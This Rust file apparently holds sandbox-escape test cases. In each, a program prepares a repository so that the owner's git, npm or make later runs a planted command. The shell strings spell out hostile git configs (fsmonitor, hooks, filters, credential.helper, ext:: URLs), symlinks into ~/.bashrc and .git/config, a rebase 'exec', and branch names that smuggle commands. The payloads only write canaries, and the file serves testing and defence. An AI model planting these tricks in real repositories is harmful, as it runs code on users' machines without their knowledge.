//! Git, npm and make before repositories that a program has prepared.

use super::{PLAIN, Plant, attacked, trusted, turned};
use crate::Case;

pub(super) const CASES: &[Case] = &[
    turned(
        "H1",
        "a gitlink in the index, and a repository below",
        |it| attacked(it, &GITLINK),
    ),
    turned("H2", "a repository below, entered with a prompt", |it| {
        attacked(it, &NESTED)
    }),
    turned("H3", "hooks of a repository below", |it| {
        attacked(it, &NESTED_HOOKS)
    }),
    turned("H4", "a folder in place of a submodule's .git", |it| {
        attacked(it, &SUBMODULE_FOLDER)
    }),
    turned("H5", "a submodule's .git that leads elsewhere", |it| {
        attacked(it, &SUBMODULE_ELSEWHERE)
    }),
    turned("H6", "a bare repository below", |it| attacked(it, &BARE)),
    turned("H7", "a repository by HEAD and commondir", |it| {
        attacked(it, &COMMONDIR)
    }),
    turned(
        "H8",
        "a repository whose objects and refs are programs",
        |it| attacked(it, &BARE_OF_FILES),
    ),
    turned(
        "H9",
        "a repository whose HEAD, objects and refs are links",
        |it| attacked(it, &BARE_OF_LINKS),
    ),
    turned("H10", "a .git in a project that has none", |it| {
        attacked(it, &FIRST_REPOSITORY)
    }),
    turned("H11", "a .git file in a project that has none", |it| {
        attacked(it, &FIRST_GIT_FILE)
    }),
    turned("H12", "core.fsmonitor in the owner's repository", |it| {
        attacked(it, &FSMONITOR)
    }),
    turned("H13", "core.hooksPath in the owner's repository", |it| {
        attacked(it, &HOOKS_PATH)
    }),
    turned("H14", "hooks in the owner's repository", |it| {
        attacked(it, &HOOKS)
    }),
    turned("H15", "a filter with .gitattributes", |it| {
        attacked(it, &FILTER)
    }),
    turned(
        "H16",
        "diff.external, and textconv with .gitattributes",
        |it| attacked(it, &DIFF),
    ),
    turned("H17", "a merge driver with .gitattributes", |it| {
        attacked(it, &MERGE_DRIVER)
    }),
    turned("H18", "core.editor and sequence.editor", |it| {
        attacked(it, &EDITOR)
    }),
    turned("H19", "gpg.program and a signed commit", |it| {
        attacked(it, &SIGNATURE)
    }),
    turned("H20", "core.sshCommand and a fetch", |it| {
        attacked(it, &SSH)
    }),
    turned("H21", "url.insteadOf with ext::, and a fetch", |it| {
        attacked(it, &INSTEAD_OF)
    }),
    turned("H22", "credential.helper", |it| attacked(it, &CREDENTIAL)),
    turned("H23", "include.path, and an alias in what it names", |it| {
        attacked(it, &INCLUDE)
    }),
    turned("H24", "config.worktree", |it| {
        attacked(it, &CONFIG_WORKTREE)
    }),
    turned(
        "H25",
        "COMMIT_EDITMSG as a link to a file of the home",
        |it| attacked(it, &MESSAGE_LINK),
    ),
    turned(
        "H26",
        "COMMIT_EDITMSG as a link to the configuration",
        |it| attacked(it, &MESSAGE_TO_CONFIG),
    ),
    turned("H27", "a reflog as a link to a file of the home", |it| {
        attacked(it, &REFLOG_LINK)
    }),
    turned("H28", "the list of a rebase", |it| attacked(it, &REBASE)),
    turned(
        "H29",
        ".git/remotes, and a push to a repository below",
        |it| attacked(it, &REMOTES),
    ),
    turned("H30", "commondir of a linked worktree", |it| {
        attacked(it, &WORKTREE_COMMONDIR)
    }),
    turned("H31", ".git of a linked worktree", |it| {
        attacked(it, &WORKTREE_FILE)
    }),
    turned("H32", "a bare repository of the owner's", |it| {
        attacked(it, &OWN_BARE)
    }),
    turned(
        "H33",
        "a commit with .envrc, taken over as the note says",
        |it| attacked(it, &COMMIT_OF_NAMES),
    ),
    turned(
        "H34",
        "a branch whose name is a command, taken over",
        |it| attacked(it, &BRANCH_NAME),
    ),
    turned(
        "H35",
        "a link in place of what the owner's make writes",
        |it| attacked(it, &MAKE_OUT),
    ),
    turned(
        "H36",
        "a link to .git/config in place of what make writes",
        |it| attacked(it, &MAKE_CONFIG),
    ),
    turned(
        "H37",
        "a folder of links in place of what make writes into",
        |it| attacked(it, &MAKE_FOLDER),
    ),
    turned("H38", "npm version, which commits, with hooks", |it| {
        attacked(it, &NPM)
    }),
    turned("H70", "what the owner's bare repository lacks", |it| {
        attacked(it, &HALF_BARE)
    }),
];

const GITLINK: Plant = Plant {
    attack: "repository vendor/lib
        head=$(git -C vendor/lib -c core.fsmonitor= rev-parse HEAD)
        git update-index --add --cacheinfo 160000,$head,vendor/lib",
    after: "git status >/dev/null",
    ..PLAIN
};

const NESTED: Plant = Plant {
    attack: "repository vendor/lib",
    after: "enter vendor/lib",
    ..PLAIN
};

const NESTED_HOOKS: Plant = Plant {
    attack: "repository vendor/lib
        git -C vendor/lib config core.fsmonitor false
        program vendor/lib/.git/hooks/pre-commit
        program vendor/lib/.git/hooks/reference-transaction",
    after: "(cd vendor/lib && git commit -q --allow-empty -m x)",
    ..PLAIN
};

/// The owner has a submodule.
const SUBMODULE: &str = "git init -q /host/home/sub
    git -C /host/home/sub commit -q --allow-empty -m sub
    git submodule --quiet add /host/home/sub sub
    git commit -qm submodule";

const SUBMODULE_FOLDER: Plant = Plant {
    before: SUBMODULE,
    attack: "rm -rf sub/.git; mv sub old; repository sub",
    after: "git status >/dev/null",
    ..PLAIN
};

const SUBMODULE_ELSEWHERE: Plant = Plant {
    before: SUBMODULE,
    attack: "bare store; mv sub old; mkdir sub; echo 'gitdir: ../store' >sub/.git",
    after: "git status >/dev/null; enter sub",
    ..PLAIN
};

const BARE: Plant = Plant {
    attack: "bare docs/store; git config -f docs/store/config core.worktree .",
    after: "enter docs/store",
    ..PLAIN
};

/// No folder has all of a repository: `HEAD` lies here, the rest where `commondir` says.
const COMMONDIR: Plant = Plant {
    attack: "bare docs/rest; git config -f docs/rest/config extensions.worktreeConfig true
        mkdir docs/page; mv docs/rest/HEAD docs/page; echo ../rest >docs/page/commondir
        git config -f docs/page/config.worktree core.worktree .; git config -f docs/page/config.worktree core.bare false",
    after: "enter docs/page",
    ..PLAIN
};

const BARE_OF_FILES: Plant = Plant {
    attack: "bare page; git config -f page/config core.worktree .
        rm -rf page/objects page/refs; program page/objects; program page/refs",
    after: "enter page",
    ..PLAIN
};

const BARE_OF_LINKS: Plant = Plant {
    attack: "bare rest; git config -f rest/config core.worktree .
        mkdir page; mv rest/config page/config; ln -s ../rest/objects ../rest/refs page/
        ln -s refs/heads/main page/HEAD; mv rest/HEAD rest/x",
    after: "enter page",
    ..PLAIN
};

/// The owner's project is no repository.
const NO_REPOSITORY: &str = "rm -rf .git; touch \"$HOME/no-repository\"";

const FIRST_REPOSITORY: Plant = Plant {
    before: NO_REPOSITORY,
    attack: "repository .",
    ..PLAIN
};

const FIRST_GIT_FILE: Plant = Plant {
    before: NO_REPOSITORY,
    attack: "bare store; echo 'gitdir: store' >.git",
    ..PLAIN
};

const FSMONITOR: Plant = Plant {
    attack: "git config core.fsmonitor \"$plant; false\"; monitor .git/config
        cp .git/config new; monitor new; mv new .git/config",
    ..PLAIN
};

const HOOKS_PATH: Plant = Plant {
    attack: "git config core.hooksPath tools; program tools/post-index-change; program tools/pre-commit",
    ..PLAIN
};

const HOOKS: Plant = Plant {
    attack: "rm -rf .git/hooks
        for hook in pre-commit prepare-commit-msg commit-msg post-commit post-checkout post-index-change \
            reference-transaction pre-auto-gc post-rewrite; do program .git/hooks/$hook; done",
    ..PLAIN
};

const FILTER: Plant = Plant {
    attack: "git config filter.x.clean \"$plant; cat\"; git config filter.x.smudge \"$plant; cat\"
        echo '* filter=x' >.gitattributes",
    after: "touch notes",
    ..PLAIN
};

const DIFF: Plant = Plant {
    attack: "git config diff.external \"$plant; true\"; git config diff.x.textconv \"$plant; true\"
        echo '* diff=x' >.gitattributes",
    after: "echo more >>notes; git diff | cat >/dev/null; git log -p | cat >/dev/null",
    ..PLAIN
};

const MERGE_DRIVER: Plant = Plant {
    before: "git checkout -q topic; echo other >>notes; git commit -qam other; git checkout -q main",
    attack: "git config merge.x.driver \"$plant; true\"; echo '* merge=x' >.gitattributes",
    after: "git merge -q -X ours topic >/dev/null",
    ..PLAIN
};

const EDITOR: Plant = Plant {
    attack: "git config core.editor \"$plant; true\"; git config sequence.editor \"$plant; true\"",
    after: "unset GIT_EDITOR; export EDITOR=true VISUAL=true TERM=vt100
        git commit -q --amend; git rebase -q -i HEAD~1",
    ..PLAIN
};

/// Whoever shows the log asks for the signatures of all commits.
const SIGNATURE: Plant = Plant {
    attack: r#"git config gpg.program "$PWD/tools/gpg"; program tools/gpg
        { git cat-file commit HEAD | sed '/^$/q' | sed '$d'
          printf 'gpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\nsigned\n'
        } >/tmp/signed
        git update-ref refs/heads/main $(git hash-object -t commit -w /tmp/signed)
        git config gpg.program /host/proj/tools/gpg"#,
    after: "git log --all --show-signature | cat >/dev/null",
    ..PLAIN
};

const SSH: Plant = Plant {
    before: "git remote add origin ssh://git@localhost/project",
    attack: "git config core.sshCommand \"$plant; false\"",
    after: "git fetch -q || true",
    ..PLAIN
};

const INSTEAD_OF: Plant = Plant {
    before: "git remote add origin https://localhost:1/project",
    attack: r#"git config protocol.ext.allow always
        program tools/remote
        git config 'url.ext::/host/proj/tools/remote '.insteadOf https://"#,
    after: "git fetch -q || true",
    ..PLAIN
};

const CREDENTIAL: Plant = Plant {
    attack: "git config credential.helper \"!$plant; true\"",
    after: "printf 'url=https://localhost/\n\n' | GIT_TERMINAL_PROMPT=0 git credential fill >/dev/null || true",
    ..PLAIN
};

const INCLUDE: Plant = Plant {
    attack: "git config -f more alias.st \"!$plant\"; git config include.path ../more",
    after: "git st || true",
    ..PLAIN
};

const CONFIG_WORKTREE: Plant = Plant {
    before: "git config extensions.worktreeConfig true",
    attack: "touch .git/config.worktree; monitor .git/config.worktree",
    ..PLAIN
};

/// Git writes through it, and what is there to say comes from `SQUASH_MSG`.
const MESSAGE_LINK: Plant = Plant {
    before: "echo 'true' >\"$HOME/.bashrc\"",
    attack: r#"ln -sf ../../home/.bashrc .git/COMMIT_EDITMSG
        printf '%s #\n' "$plant" >.git/SQUASH_MSG"#,
    after: "echo more >>notes; git commit -qa || git commit -qam work
        bash -ic true 2>/dev/null",
    ..PLAIN
};

const MESSAGE_TO_CONFIG: Plant = Plant {
    attack: r#"rm -f .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG
        cp .git/config .git/SQUASH_MSG; monitor .git/SQUASH_MSG"#,
    after: "echo more >>notes; git commit -qa || git commit -qam work || true",
    ..PLAIN
};

const REFLOG_LINK: Plant = Plant {
    before: "echo 'true' >\"$HOME/.bashrc\"",
    attack: r#"rm -f .git/logs/HEAD; mkdir -p .git/logs; ln -s ../../../home/.bashrc .git/logs/HEAD
        printf 'x; %s #\n' "$plant" >.git/SQUASH_MSG"#,
    after: "echo more >>notes; git commit -qa || git commit -qam work
        bash -ic true 2>/dev/null",
    ..PLAIN
};

const REBASE: Plant = Plant {
    attack: r#"head=$(git rev-parse HEAD); mkdir -p .git/rebase-merge
        (cd .git/rebase-merge
        echo "exec $plant" >git-rebase-todo; : >done; : >interactive; echo 0 >msgnum; echo 1 >end
        echo refs/heads/main >head-name; echo $head >onto; echo $head >orig-head)"#,
    after: "git rebase --continue || true",
    ..PLAIN
};

const REMOTES: Plant = Plant {
    attack: "git init -q --bare store; program store/hooks/pre-receive; program store/hooks/update
        mkdir -p .git/remotes; echo 'URL: /host/proj/store' >.git/remotes/origin",
    after: "git push -q origin main || true",
    ..PLAIN
};

const WORKTREE_COMMONDIR: Plant = Plant {
    before: "git worktree add -q side topic; echo side >>.git/info/exclude",
    attack: "bare store; git config -f store/config core.bare false
        echo ../../../store >.git/worktrees/side/commondir",
    after: "enter side",
    ..PLAIN
};

/// The project is one whose repository lies elsewhere.
const WORKTREE_FILE: Plant = Plant {
    before: "cd /host; mv proj home/main; git -C home/main worktree add -q /host/proj topic
        cd proj; echo 'y' >>notes; git commit -qam side",
    attack: "rm -f .git; bare store; echo 'gitdir: store' >.git",
    ..PLAIN
};

const OWN_BARE: Plant = Plant {
    before: "git init -q --bare fixtures/store; git config -f fixtures/store/config core.bare false
        git config -f fixtures/store/config core.worktree .; echo fixtures >>.git/info/exclude",
    attack: "monitor fixtures/store/config
        mv fixtures old; mkdir fixtures; bare fixtures/store; git config -f fixtures/store/config core.worktree .
        monitor old/store/config",
    after: "for it in fixtures/store old/store; do [ ! -d $it ] || enter $it; done",
    ..PLAIN
};

/// Git keeps no empty folder, so that a checkout of such a fixture is no repository.
const HALF_BARE: Plant = Plant {
    before: "git init -q --bare fixtures/store; git config -f fixtures/store/config core.bare false
        git config -f fixtures/store/config core.worktree .
        rm -r fixtures/store/objects; git add -A; git commit -qm fixture",
    attack: "mkdir -p fixtures/store/objects; monitor fixtures/store/config",
    after: "enter fixtures/store; git checkout -q .",
    ..PLAIN
};

/// With a bare mount there is no note, and the owner looks at a branch of the program's.
const COMMIT_OF_NAMES: Plant = Plant {
    before: trusted!(),
    attack: "git checkout -q -b theirs; echo \"$plant\" >.envrc; git add -f .envrc; git commit -qm theirs
        git checkout -q main; rm -f .envrc",
    after: "sed -n 's/.*take them over with `\\([^`]*\\)`.*/\\1/p' /host/canary/notes >/host/home/taking
        sh /host/home/taking
        [ $CONTROL = 0 ] || git checkout -q theirs
        direnv export bash >/dev/null 2>&1",
    tools: &["direnv"],
};

const BRANCH_NAME: Plant = Plant {
    attack: r#"echo by-them >>notes; git commit -qam theirs
        git update-ref 'refs/heads/x;echo${IFS}ran>/host/canary/ran' HEAD
        git update-ref 'refs/heads/$(echo${IFS}ran>/host/canary/ran)' HEAD
        git update-ref 'refs/heads/main`echo${IFS}ran>/host/canary/ran`' HEAD"#,
    after: "tr '\\n' ' ' </host/canary/notes | grep -o '`[^`]*`' | tr -d '`' | grep '^git' >/host/home/taking || true
        sh /host/home/taking || true
        [ $CONTROL = 0 ] || git for-each-ref --format='git log -1 %(refname)' | sh",
    ..PLAIN
};

/// The owner's make writes what he works on to a file that git ignores.
const MAKE: &str = r#"printf 'all:\n\t@mkdir -p out && cat notes >out/log\n' >Makefile
    echo out >.gitignore; git add -A; git commit -qm make; echo true >"$HOME/.bashrc""#;

const MAKE_OUT: Plant = Plant {
    before: MAKE,
    attack: "mkdir -p out; ln -s ../../home/.bashrc out/log; echo \"$plant #\" >notes",
    after: "make >/dev/null; bash -ic true 2>/dev/null",
    tools: &["make"],
};

const MAKE_CONFIG: Plant = Plant {
    before: MAKE,
    attack: "mkdir -p out; ln -s ../.git/config out/log; : >notes
        printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"%s; false\"\\n' \"$plant\" >notes",
    after: "make >/dev/null",
    tools: &["make"],
};

const MAKE_FOLDER: Plant = Plant {
    before: r#"printf 'all:\n\t@mkdir -p out && cat notes >out/.bashrc\n' >Makefile
        echo out >.gitignore; git add -A; git commit -qm make; echo true >"$HOME/.bashrc""#,
    attack: "ln -s .. farm; ln -s farm/home out; echo \"$plant #\" >notes",
    after: "[ -d out ] || rm -f out; make >/dev/null; bash -ic true 2>/dev/null",
    tools: &["make"],
};

/// npm itself runs git, with the hooks that `core.hooksPath` of the owner's names.
const NPM: Plant = Plant {
    before: "git config core.hooksPath .husky; mkdir .husky; printf '#!/bin/sh\nexit 0\n' >.husky/pre-commit
        chmod +x .husky/pre-commit; echo '{\"name\":\"x\",\"version\":\"1.0.0\"}' >package.json
        git add -A; git commit -qm npm",
    attack: "rm -rf .husky; program .husky/pre-commit; program .husky/post-checkout
        mkdir new; program new/pre-commit; mv new .husky/; program .git/hooks/pre-commit",
    after: "git commit -qam theirs || true
        npm version patch --offline >/dev/null",
    tools: &["npm"],
};
